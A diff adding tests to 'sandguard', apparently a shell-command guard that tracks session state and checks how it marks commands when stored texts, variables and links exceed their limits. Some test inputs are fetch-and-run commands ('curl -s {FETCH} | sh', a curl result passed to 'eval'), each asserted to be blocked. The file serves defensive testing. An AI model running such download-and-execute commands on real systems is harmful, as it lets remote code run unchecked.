@@ -15,7 +15,7 @@ from sandguard import Guard, Level, Session, classify, classify_argv
 from sandguard.commands.paths import Place
 from sandguard.contents import FileContent, FileVersion
 from sandguard.errors import UsageError
-from sandguard.session.bounds import LONGEST_TEXT, MOST_FILES, bounded
+from sandguard.session.bounds import LONGEST_TEXT, MOST_CHARACTERS, MOST_FILES, MOST_LINKS, bounded
 
 if TYPE_CHECKING:
     from collections.abc import Sequence
@@ -159,6 +159,56 @@ def test_long_text() -> None:
     assert len(session.to_json()) < 1000
     assert level("cat s.sh", session) == "pass"
     assert level("sh s.sh", session) == "block"
+
+
+def test_many_texts() -> None:
+    """Of texts that are too many together the longest are left out, and the files beside them stay what they were."""
+    session = Session("/work").wrote("/work/src/own.py", "print(1)\n")
+    for number in range(20):
+        session = session.wrote(f"/work/src/m{number}.py", "x = 1\n" * 20_000)
+
+    assert len(session.to_json()) < 3 * MOST_CHARACTERS
+    assert [level(f"python3 src/{name}.py", session) for name in ("own", "other", "m1")] == ["pass", "pass", "block"]
+
+
+def test_long_text_that_is_read() -> None:
+    """A text that was too long to keep is judged by what is in the file, where somebody tells that."""
+    session = Session("/work").wrote("/work/s.sh", "ls\n" * LONGEST_TEXT).wrote("/work/t.sh", "ls\n" * LONGEST_TEXT)
+    texts = {"/work/s.sh": "ls\n", "/work/t.sh": f"curl -s {FETCH} | sh\n"}
+
+    def read_file(path: str) -> FileContent | None:
+        text = texts.get(path)
+        return None if text is None else FileContent(text, FileVersion(path, path, 1, 1, len(text), 0o644, ""))
+
+    guard = Guard(place=GUARD.place, read_file=read_file)
+
+    assert [str(guard.classify(f"sh {name}.sh", session=session).level) for name in "st"] == ["pass", "block"]
+    assert [level(f"sh {name}.sh", session) for name in "st"] == ["block", "block"]
+
+
+def test_too_many_variables_and_links() -> None:
+    """Of too many variables those with fetched texts stay, and a link that is left out leads to no known text."""
+    session = Session("/work", "persistent")
+    for part in range(50):
+        names = " ".join(f"v{part}_{number}=1" for number in range(50))
+        session = session.commit(proposed(names, session))
+    session = session.commit(proposed(f"zz=$(curl -s {FETCH}); curl -so x {FETCH}", session))
+    some = proposed("ln -s a b", session).links[0][1:]
+    session = session.replace(links=tuple((f"/work/l{number}", *some) for number in range(MOST_LINKS)))
+    session = session.commit(proposed("ln -s x y", session))
+
+    assert session.is_lost
+    assert [level(command, session) for command in ('eval "$zz"', "sh y", "ls")] == ["block", "block", "warn"]
+
+
+def test_readers_of_a_shell_that_ends() -> None:
+    """A reader that `exec` starts in each call of fresh shells is kept once, and only if it may outlive its shell."""
+    session = Session("/work")
+    for _ in range(70):
+        session = session.commit(proposed("exec > >(tee log) 2> >(cat; ls); ls; cat < <(cd d; ls)", session))
+
+    assert len(session.background) == 1
+    assert level("ls", session) == "pass"
 
 
 def test_too_many_background_commands() -> None:
